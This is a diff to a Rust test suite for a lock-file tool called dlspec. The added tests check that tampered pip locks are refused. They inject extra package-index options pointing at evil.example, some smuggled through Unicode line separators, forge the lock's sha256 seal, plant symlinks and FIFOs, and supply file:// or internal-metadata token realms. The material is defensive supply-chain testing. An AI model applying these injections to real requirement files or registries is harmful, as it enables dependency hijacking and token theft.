@@ -8,6 +8,7 @@ use std::os::unix::fs::PermissionsExt as _;
 use std::process::Command;
 
 use camino::{Utf8Path, Utf8PathBuf};
+use sha2::{Digest as _, Sha256};
 
 const SPEC: &str = r#"image "tf" {
     tensorflow "2.15.0"
@@ -203,9 +204,180 @@ fn a_tampered_lock_is_not_used() {
         lock.replace("pandas==2.3.3 \\", "--index-url https://evil.example/simple\npandas==2.3.3 \\"),
     )
     .unwrap();
-    assert_eq!(dlspec(&dir, &["lock", "--check"]).code, 1);
+    let check = dlspec(&dir, &["lock", "--check"]);
+    assert_eq!(check.code, 1, "{}", check.stderr);
+    assert!(check.stderr.contains("edited by hand"), "{}", check.stderr);
     let compile = dlspec(&dir, &["compile"]);
-    assert!(compile.stderr.contains("is not used"), "{}", compile.stderr);
+    assert!(compile.stderr.contains("compiled unlocked"), "{}", compile.stderr);
+    assert!(!dir.join(OUT).join("pip").exists());
+}
+
+/// The lock's text with its `# content` line made again for `content`, as someone who knows the
+/// format would forge it.
+fn resealed(lock: &str, content: &str) -> String {
+    let mut lines = lock.splitn(4, '\n');
+    let (header, input) = (lines.next().unwrap(), lines.next().unwrap());
+    let digest: String = Sha256::digest(content.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
+    format!("{header}\n{input}\n# content sha256:{digest}\n{content}")
+}
+
+#[test]
+fn a_pin_or_hash_edited_by_hand_fails_the_check_and_the_lock_is_not_used() {
+    let (_temp, dir, uv) = catalog(SPEC);
+    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
+    let lock = std::fs::read_to_string(dir.join(LOCK)).unwrap();
+    assert!(lock.lines().nth(2).unwrap().starts_with("# content sha256:"), "{lock}");
+    for (from, to) in [("pandas==2.3.3", "pandas==2.3.2"), ("--hash=sha256:dddd", "--hash=sha256:0ddd")] {
+        std::fs::write(dir.join(LOCK), lock.replacen(from, to, 1)).unwrap();
+        let check = dlspec(&dir, &["lock", "--check"]);
+        assert_eq!(check.code, 1, "{from}: {}", check.stderr);
+        assert!(check.stderr.contains("edited by hand") && check.stderr.contains(LOCK), "{}", check.stderr);
+        let compile = dlspec(&dir, &["compile"]);
+        assert_eq!(compile.code, 0, "{}", compile.stderr);
+        assert!(compile.stderr.contains("compiled unlocked"), "{}", compile.stderr);
+        assert!(!dir.join(OUT).join("pip").exists(), "{from}: the edited lock reached out/");
+    }
+}
+
+#[test]
+fn a_line_break_to_pip_in_a_comment_is_refused_even_in_a_sealed_lock() {
+    let (_temp, dir, uv) = catalog(SPEC);
+    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
+    let lock = std::fs::read_to_string(dir.join(LOCK)).unwrap();
+    let content = lock.splitn(4, '\n').nth(3).unwrap();
+    // Python's str.splitlines, which pip reads requirement files with, breaks lines at all of these.
+    for separator in ["\u{c}", "\u{2028}", "\u{2029}", "\u{85}", "\u{1d}", "\r"] {
+        let injected = content.replacen(
+            "# via -r extras.in",
+            &format!("# via -r extras.in{separator}--extra-index-url http://evil.example/simple"),
+            1,
+        );
+        std::fs::write(dir.join(LOCK), resealed(&lock, &injected)).unwrap();
+        let check = dlspec(&dir, &["lock", "--check"]);
+        assert_eq!(check.code, 1, "{separator:?}: {}", check.stderr);
+        assert!(check.stderr.contains("which pip could read as a line break"), "{}", check.stderr);
+        let compile = dlspec(&dir, &["compile"]);
+        assert_eq!(compile.code, 0, "{}", compile.stderr);
+        let out = dir.join(OUT);
+        assert!(!out.join("pip").exists(), "{separator:?} reached out/");
+    }
+    // A forged option line, sealed: refused as not a requirement, hash or comment.
+    let injected =
+        content.replacen("pandas==2.3.3 \\", "--extra-index-url http://evil.example/simple\npandas==2.3.3 \\", 1);
+    std::fs::write(dir.join(LOCK), resealed(&lock, &injected)).unwrap();
+    let check = dlspec(&dir, &["lock", "--check"]);
+    assert!(check.code == 1 && check.stderr.contains("not a pinned requirement"), "{}", check.stderr);
+}
+
+/// Runs dlspec, failing the test if it has not finished in a minute (a read that blocks).
+fn dlspec_within_a_minute(dir: &Utf8Path, args: &[&str]) -> Run {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_dlspec"))
+        .args(args)
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("dlspec runs");
+    let started = std::time::Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if started.elapsed() > std::time::Duration::from_secs(60) {
+            child.kill().unwrap();
+            panic!("dlspec {args:?} did not finish within a minute: it blocks");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let output = child.wait_with_output().unwrap();
+    Run { code: output.status.code().unwrap_or(-1), stderr: String::from_utf8_lossy(&output.stderr).into_owned() }
+}
+
+#[test]
+fn a_fifo_device_or_huge_file_as_a_lock_is_refused_without_blocking() {
+    let (_temp, dir, uv) = catalog(SPEC);
+    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
+    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
+    let lock = dir.join(LOCK);
+    let huge = "# padding\n".repeat(500_000);
+    for kind in ["fifo", "/dev/zero", "huge"] {
+        std::fs::remove_file(&lock).unwrap();
+        match kind {
+            "fifo" => assert!(Command::new("mkfifo").arg(lock.as_str()).status().unwrap().success()),
+            "huge" => std::fs::write(&lock, &huge).unwrap(),
+            device => std::os::unix::fs::symlink(device, &lock).unwrap(),
+        }
+        let check = dlspec_within_a_minute(&dir, &["lock", "--check"]);
+        assert_eq!(check.code, 1, "{kind}: {}", check.stderr);
+        let why = match kind {
+            "huge" => "larger than 4 MiB",
+            "fifo" => "not a regular file",
+            _ => "is a symlink",
+        };
+        assert!(check.stderr.contains(why), "{kind}: {}", check.stderr);
+        for args in [&["compile", "--check"][..], &["compile"]] {
+            let run = dlspec_within_a_minute(&dir, args);
+            assert!(
+                run.stderr.contains(why) && run.stderr.contains("compiled unlocked"),
+                "{kind} {args:?}: {}",
+                run.stderr
+            );
+        }
+        assert!(!dir.join(OUT).join("pip").exists());
+    }
+}
+
+#[test]
+fn lock_never_writes_through_a_symlinked_lock_or_lock_folder() {
+    let (temp, dir, uv) = catalog(SPEC);
+    let outside = Utf8PathBuf::try_from(temp.path().join("outside")).unwrap();
+    std::fs::create_dir(&outside).unwrap();
+    std::fs::write(outside.join("victim.txt"), "not a lock\n").unwrap();
+    let lock = dir.join(LOCK);
+    // The lock file, the image's lock folder and the whole lock folder, each a link out of specs/.
+    let links = [
+        (lock.clone(), outside.join("victim.txt")),
+        (lock.parent().unwrap().to_owned(), outside.clone()),
+        (dir.join("specs/.dlspec-lock"), outside.clone()),
+    ];
+    for (link, target) in &links {
+        let _ = std::fs::remove_dir_all(dir.join("specs/.dlspec-lock"));
+        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
+        std::os::unix::fs::symlink(target, link).unwrap();
+        let run = dlspec(&dir, &["lock", "--uv", uv.as_str()]);
+        assert_eq!(run.code, 2, "{link}: {}", run.stderr);
+        let named = link.strip_prefix(&dir).unwrap();
+        assert!(run.stderr.contains(&format!("`{named}` is a symlink")), "{}", run.stderr);
+        assert_eq!(std::fs::read_to_string(outside.join("victim.txt")).unwrap(), "not a lock\n");
+        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "{link}: written outside specs/");
+        let check = dlspec(&dir, &["lock", "--check"]);
+        assert!(check.code == 1 && check.stderr.contains("symlink"), "{link}: {}", check.stderr);
+        std::fs::remove_file(link).unwrap();
+    }
+    assert!(std::fs::symlink_metadata(dir.join("specs/.dlspec-lock")).is_err());
+    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
+    assert!(std::fs::symlink_metadata(&lock).unwrap().is_file());
+    let leftovers: Vec<_> =
+        std::fs::read_dir(lock.parent().unwrap()).unwrap().map(|e| e.unwrap().file_name()).collect();
+    assert_eq!(leftovers.len(), 1, "the temporary file is gone: {leftovers:?}");
+}
+
+#[test]
+fn a_lock_of_the_old_header_gets_the_new_one_offline_with_the_same_body() {
+    let (_temp, dir, uv) = catalog(SPEC);
+    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str()]).code, 0);
+    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
+    let sealed = std::fs::read_to_string(dir.join(LOCK)).unwrap();
+    let old: String = sealed.split_inclusive('\n').filter(|l| !l.starts_with("# content sha256:")).collect();
+    std::fs::write(dir.join(LOCK), &old).unwrap();
+    let check = dlspec(&dir, &["lock", "--check"]);
+    assert!(check.code == 1 && check.stderr.contains("header of an older dlspec"), "{}", check.stderr);
+    let compile = dlspec(&dir, &["compile", "--check"]);
+    assert!(compile.stderr.contains("compiled unlocked"), "{}", compile.stderr);
+    let run = dlspec(&dir, &["lock", "--uv", "/nonexistent/uv"]);
+    assert_eq!(run.code, 0, "offline: {}", run.stderr);
+    assert!(run.stderr.contains("1 locks written"), "{}", run.stderr);
+    assert_eq!(std::fs::read_to_string(dir.join(LOCK)).unwrap(), sealed, "the same body, the new header");
+    assert_eq!(dlspec(&dir, &["lock", "--check"]).code, 0);
+    assert_eq!(dlspec(&dir, &["compile", "--check"]).code, 0, "out/ is as before");
 }
 
 /// `uv` of the repository's `.venv` (made from .ci/requirements.txt), else on `PATH`.
@@ -344,6 +516,11 @@ fn the_real_uv_locks_pytorch_from_its_variant_index_and_pip_refuses_a_tampered_h
 
 /// A registry on 127.0.0.1 that wants a token, as Docker Hub does, then gives the digest.
 fn fake_registry(digest: &'static str) -> u16 {
+    fake_registry_with_realm(digest, None)
+}
+
+/// As [`fake_registry`], naming `realm` (else its own `/token`) as where tokens come from.
+fn fake_registry_with_realm(digest: &'static str, realm: Option<String>) -> u16 {
     use std::io::{BufRead as _, BufReader, Write as _};
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
@@ -369,8 +546,9 @@ fn fake_registry(digest: &'static str) -> u16 {
                     "HTTP/1.1 200 OK\r\nDocker-Content-Digest: {digest}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                 )
             } else if first.starts_with("HEAD /v2/team/base/manifests/1.0 ") {
+                let realm = realm.clone().unwrap_or_else(|| format!("http://127.0.0.1:{port}/token"));
                 format!(
-                    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"http://127.0.0.1:{port}/token\",service=\"fake\",scope=\"repository:team/base:pull\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+                    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"{realm}\",service=\"fake\",scope=\"repository:team/base:pull\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                 )
             } else {
                 "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_owned()
@@ -401,6 +579,25 @@ fn digests_records_the_base_by_digest_and_the_dockerfile_starts_from_it() {
     // The lock keeps the digest when it is written again without --digests.
     assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str(), "--upgrade"]).code, 0);
     assert!(std::fs::read_to_string(&lock).unwrap().contains(DIGEST));
+}
+
+#[test]
+fn a_token_realm_that_is_not_https_is_refused() {
+    const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+    let temp = tempfile::tempdir().unwrap();
+    let token = Utf8PathBuf::try_from(temp.path().join("token.json")).unwrap();
+    std::fs::write(&token, "{\"token\":\"t0ken\"}").unwrap();
+    for realm in [format!("file://{token}"), "http://metadata.internal.example/token".to_owned()] {
+        let port = fake_registry_with_realm(DIGEST, Some(realm.clone()));
+        let base = format!("127.0.0.1:{port}/team/base:1.0");
+        let (_temp, dir, uv) = catalog(&format!(
+            "image \"tf\" {{\n    tensorflow \"2.15.0\"\n    python \"3.10\"\n    base \"{base}\"\n    pip \"pandas\"\n}}\n"
+        ));
+        let run = dlspec(&dir, &["lock", "--uv", uv.as_str(), "--digests"]);
+        assert_eq!(run.code, 2, "{realm}: {}", run.stderr);
+        assert!(run.stderr.contains(&format!("token realm `{realm}`, which is not an https:// URL")), "{}", run.stderr);
+        assert!(!dir.join("specs/.dlspec-lock").exists(), "{realm}: a lock was written");
+    }
 }
 
 #[test]
